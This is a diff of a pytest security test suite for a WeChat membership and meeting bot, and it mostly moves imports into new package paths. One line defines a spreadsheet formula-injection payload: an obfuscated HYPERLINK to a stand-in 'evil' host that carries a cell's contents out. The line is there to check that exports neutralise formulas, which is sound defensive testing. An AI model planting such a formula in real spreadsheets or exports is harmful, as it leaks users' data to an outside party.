@@ -13,12 +13,11 @@ import zipfile
 from datetime import timedelta
 
 import pytest
-import requests
 import xmltodict
 from sqlalchemy import func, select
 
 from bot.config import ROOT
-from bot.simulator import message_xml
+from bot.wechat.simulator import message_xml
 from bot.storage.engine import db
 from bot.storage.models import InboundMessage, OutboundMessage, WebhookNonce
 from tests.helpers import AES_KEY, Platform, bind
@@ -129,7 +128,7 @@ def test_replays_are_refused_with_redis_down_too(app, platform):
 
 
 def test_nonces_are_pruned_after_the_window(app, platform, clock):
-    from bot.webhook import prune_nonces
+    from bot.wechat.webhook import prune_nonces
 
     platform.text("o_a", "你好")
     assert count(WebhookNonce) == 1
@@ -155,7 +154,7 @@ def test_the_web_server_and_the_worker_refuse_to_start_without_secrets(tmp_path)
     web = subprocess.run([sys.executable, "-c", "import wsgi"], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=60)
     assert web.returncode != 0 and "SECRET_KEY" in web.stderr and "Traceback" not in web.stderr
-    worker = subprocess.run([sys.executable, "-c", "import bot.rq_settings"], cwd=ROOT, env=env,
+    worker = subprocess.run([sys.executable, "-c", "import bot.jobs.rq_settings"], cwd=ROOT, env=env,
                             capture_output=True, text=True, timeout=60)
     assert worker.returncode != 0 and "SECRET_KEY" in worker.stderr
     safe = subprocess.run([sys.executable, "-c", "import wsgi"], cwd=ROOT, timeout=60,
@@ -200,7 +199,7 @@ EVIL = '=HYPERLINK("http"&CHAR(58)&"//evil"&CHAR(46)&"example/"&B3)'
 
 
 def test_typed_text_is_never_a_formula_in_xlsx_or_csv(app, platform, tmp_path, clock):
-    from bot import meetings
+    from bot.meetings import planning as meetings
     from bot.exports import attendance as export
     from bot.storage.models import Branch
 
@@ -244,7 +243,8 @@ def test_the_access_token_never_reaches_a_log_or_a_table(app, platform, tmp_path
     import json
     import time as _time
 
-    from bot import clock, wechat
+    from bot import clock
+    from bot.wechat import client as wechat
     from bot.storage.models import Member
 
     member = bind(platform, tmp_path, SECRETARY)[0]
@@ -268,16 +268,16 @@ def test_the_access_token_never_reaches_a_log_or_a_table(app, platform, tmp_path
 
 
 def test_a_failing_handler_does_not_log_the_members_words(app, platform, caplog, monkeypatch):
-    from bot import handlers
+    from bot.chat import dispatch as handlers
 
     class Broken(handlers.Handler):
         def check(self, msg):
             return True
 
-        def handle(self, msg):
+        def handle(self, msg, match):
             raise RuntimeError("boom")
 
-    monkeypatch.setattr(handlers, "default_handlers", lambda: [Broken()])
+    monkeypatch.setitem(app.extensions, "handlers", [Broken()])
     with caplog.at_level(logging.INFO):
         platform.text("o_x", "绑定 74890615 我的电话13912345678")
     assert "handler failed" in caplog.text
@@ -382,8 +382,8 @@ def test_a_reply_echoing_cdata_terminators_stays_well_formed(app, platform):
 # 7. Guessing ---------------------------------------------------------------------------------------
 
 def test_invite_guesses_are_limited_in_a_sliding_window(app, platform, tmp_path, clock):
-    from bot.roster import import_file
-    from bot.storage import members as store
+    from bot.members.roster import import_file
+    from bot.members import store
     from tests.helpers import write_roster
 
     import_file(write_roster(tmp_path / "r.csv"), clock(), "机关党委")
@@ -400,8 +400,8 @@ def test_invite_guesses_are_limited_in_a_sliding_window(app, platform, tmp_path,
 
 
 def test_guesses_from_many_accounts_are_limited_together(app, platform, tmp_path, clock):
-    from bot.roster import import_file
-    from bot.storage import members as store
+    from bot.members.roster import import_file
+    from bot.members import store
     from tests.helpers import write_roster
 
     import_file(write_roster(tmp_path / "r.csv"), clock(), "机关党委")
@@ -420,8 +420,8 @@ def test_guesses_from_many_accounts_are_limited_together(app, platform, tmp_path
 def test_used_expired_and_wrong_codes_get_the_same_answer(app, platform, tmp_path, clock):
     import re
 
-    from bot.roster import import_file
-    from bot.storage import members as store
+    from bot.members.roster import import_file
+    from bot.members import store
     from tests.helpers import write_roster
 
     import_file(write_roster(tmp_path / "r.csv"), clock(), "机关党委")
@@ -436,9 +436,9 @@ def test_used_expired_and_wrong_codes_get_the_same_answer(app, platform, tmp_pat
 
 
 def test_another_branchs_leave_number_looks_like_no_leave_at_all(app, platform, tmp_path, clock):
-    from bot import meetings
-    from bot.roster import import_file
-    from bot.storage import members as store
+    from bot.meetings import planning as meetings
+    from bot.members.roster import import_file
+    from bot.members import store
     from bot.storage.models import Branch, MeetingAttendance
     from tests.helpers import write_roster
 
@@ -578,8 +578,8 @@ def test_export_files_are_deleted_when_their_links_expire(app, platform, tmp_pat
 # Also: personal information --------------------------------------------------------------------------
 
 def test_binding_says_what_is_kept_and_my_info_shows_it(app, platform, tmp_path):
-    from bot.roster import import_file
-    from bot.storage import members as store
+    from bot.members.roster import import_file
+    from bot.members import store
     from tests.helpers import write_roster
     from bot import clock
 
